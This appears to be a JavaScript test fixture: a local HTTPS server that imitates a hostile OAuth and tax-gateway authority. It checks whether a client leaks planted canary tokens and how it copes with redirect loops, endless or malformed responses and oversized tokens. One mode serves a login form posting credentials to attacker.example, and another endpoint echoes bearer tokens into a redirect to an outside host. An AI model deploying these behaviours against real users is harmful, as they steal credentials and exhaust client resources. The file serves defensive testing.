// An authority that misbehaves, beside a control operation that works. One JSON argument: `folder` with its certificate,
// `mode`. It prints its port. "canary" behaves, with codes and tokens that the test knows; as a service it is careless:
// it serves everybody and says back whatever it was sent. "refuse-all"
// serves nobody anything. What it meets of the argument's `watch` (texts by name), and
// of what it gave out, it prints.
import { readFileSync } from 'node:fs';
import { createServer } from 'node:https';

const options = JSON.parse(process.argv[2]);
const read = (name) => readFileSync(`${options.folder}/${name}`);
const { mode } = options;
const json = { 'Content-Type': 'application/json', 'Cache-Control': 'no-store' };
// As long as real ones are, so that what cuts them is noticed.
const long = 'x9Zk'.repeat(40);
const canary = { code: 'canary-code-6b1f0c', access: `canary-access-93ad7e.${long}`, refresh: `canary-refresh-51c8f2.${long}`, cookie: 'canary-cookie-8e44d1' };
let count = 0;

const watch = { ...canary, ...options.watch };
function look({ url, headers: { authorization = '', cookie = '' } }, body) {
    const [scheme, value = ''] = authorization.split(' ');
    const texts = [url, body, authorization, cookie, scheme === 'Basic' ? Buffer.from(value, 'base64').toString() : ''];
    for (const text of texts.flatMap((one) => [one, unescape(one)])) {
        for (const name of Object.keys(watch).filter((one) => text.includes(watch[one]))) {
            console.log(`met ${name};`);
            delete watch[name];
        }
    }
    if (authorization.startsWith('eyJ') && !watch.machine) {
        console.log('met machine JWT;');
        watch.machine = '\0';
    }
}

// What was asked travels in the form's address: many logins are under way at once.
const login = (response, url) => response.writeHead(200, { 'Content-Type': 'text/html', 'Set-Cookie': `sid=${canary.cookie}; Path=/` })
    .end(`<form method=post action="/login${url.search.replaceAll('&', '&amp;')}"><input name=username><input type=password name=password><button>Log in</button></form>`);

function authorize(request, response, url) {
    switch (mode) {
        case 'redirect-loop': response.writeHead(302, { Location: `${url.pathname}?again=${count += 1}` }).end(); return;
        case 'endless-page': {
            response.writeHead(200, { 'Content-Type': 'text/html' });
            const more = () => { while (response.write('<form><input name=x>'.repeat(4096))); };
            response.on('drain', more).on('error', () => {});
            more();
            return;
        }
        case 'endless-headers': {
            const { socket } = response;
            socket.write('HTTP/1.1 200 OK\r\n');
            const more = () => { while (!socket.destroyed && socket.write(`X-Filler-${count += 1}: ${'y'.repeat(1000)}\r\n`)); };
            socket.on('drain', more).on('error', () => {});
            more();
            return;
        }
        case 'silent': return;
        case 'login-loop': login(response, url); return;
        case 'elsewhere': response.writeHead(302, { Location: 'http://127.0.0.1:1/never?code=canary' }).end(); return;
        case 'form-elsewhere':
            response.writeHead(200, { 'Content-Type': 'text/html' })
                .end('<form method=post action=https://attacker.example/><input name=u><input type=password name=p><button>Go</button></form>');
            return;
        default:
    }
    if (url.pathname === '/login' || (request.headers.cookie ?? '').includes('sid=')) {
        const asked = url.searchParams;
        const back = new URL(asked.get('redirect_uri'));
        back.searchParams.set('code', `${canary.code}-${count += 1}`);
        back.searchParams.set('state', asked.get('state'));
        response.writeHead(303, { Location: back.href, 'Set-Cookie': `sid=${canary.cookie}; Path=/` }).end();
        return;
    }
    login(response, url);
}

function token(response) {
    const answer = { access_token: `${canary.access}-${count += 1}`, token_type: 'Bearer', expires_in: 28800, refresh_token: `${canary.refresh}-${count}` };
    switch (mode) {
        case 'huge-token': {
            response.writeHead(200, json);
            response.write('{"access_token":"');
            let left = 50 * 1024;
            const more = () => {
                while (left > 0) {
                    left -= 1;
                    if (!response.write('a'.repeat(1024))) return;
                }
                response.end('"}');
            };
            response.on('drain', more).on('error', () => {});
            more();
            return;
        }
        case 'slow-json': {
            response.writeHead(200, json);
            const timer = setInterval(() => response.write(' '), 50);
            response.on('close', () => clearInterval(timer));
            return;
        }
        case 'html': response.writeHead(200, { 'Content-Type': 'text/html' }).end('<html><h1>Welcome</h1></html>'); return;
        case 'duplicate-keys':
            response.writeHead(200, json).end(`{"access_token":"${answer.access_token}","access_token":"second-value","token_type":"Bearer","expires_in":28800}`);
            return;
        case 'wrong-type': response.writeHead(200, { 'Content-Type': 'text/plain' }).end(JSON.stringify(answer)); return;
        case 'deep-json': response.writeHead(200, json).end('['.repeat(500000)); return;
        case 'numbers': response.writeHead(200, json).end('{"access_token":1,"token_type":[],"expires_in":1e999}'); return;
        case 'cut': response.writeHead(200, { ...json, 'Content-Length': 1000 }).write(JSON.stringify(answer)); setTimeout(() => response.socket.destroy(), 20); return;
        // A careless server: it tells what it was sent and what it gives.
        default: response.writeHead(200, json).end(JSON.stringify({ ...answer, scope: 'MYIR.Services', error_description: `gave ${answer.access_token} and ${answer.refresh_token}`, error: answer.refresh_token }));
    }
}

// Serves any customer but one, and tells everything, also in what evidence quotes.
function careless(request, response, url, body) {
    const { authorization } = request.headers;
    const refused = url.pathname.endsWith(options.watch?.['refused IRD number']);
    response.writeHead(refused ? 403 : 200, {
        'Content-Type': 'application/json', Server: `careless/1.0 (${authorization})`,
        Location: `https://elsewhere.example/?token=${authorization}`, 'Retry-After': `${authorization}`,
    });
    const told = { email: 'canary-email@customer.example', asked: request.url, body, authorization };
    response.end(JSON.stringify(refused ? { errors: [{ code: url.pathname.split('/').pop(), message: told.asked }], told } : told));
}

const server = createServer({ cert: read('server.crt'), key: read('server.key') }, async (request, response) => {
    const url = new URL(request.url, 'https://localhost');
    let body = '';
    for await (const chunk of request) body += chunk;
    response.on('error', () => {});
    look(request, body);
    if (mode === 'refuse-all' && url.pathname !== '/gateway/customer-service/status') {
        response.writeHead(403, json).end(JSON.stringify({ error: 'access_denied', errors: [{ code: 'EV1022' }] }));
    } else if (url.pathname.startsWith('/gateway/customer/') || url.pathname === '/gateway/gws/returns/') {
        careless(request, response, url, body);
    } else if (url.pathname === '/gateway/customer-service/status') {
        response.writeHead(200).end('OK\n');
    } else if (url.pathname.endsWith('/authorize') || url.pathname === '/login') {
        authorize(request, response, url);
    } else if (url.pathname.endsWith('/token')) {
        token(response);
    } else if (url.pathname.endsWith('/introspect')) {
        response.writeHead(200, json).end(JSON.stringify({ active: true, echo: body }));
    } else {
        response.writeHead(200).end(`echo ${body} ${request.headers.authorization}`);
    }
});
server.on('clientError', (_, socket) => socket.destroy());
server.listen(0, '127.0.0.1', () => console.log(`port ${server.address().port};`));
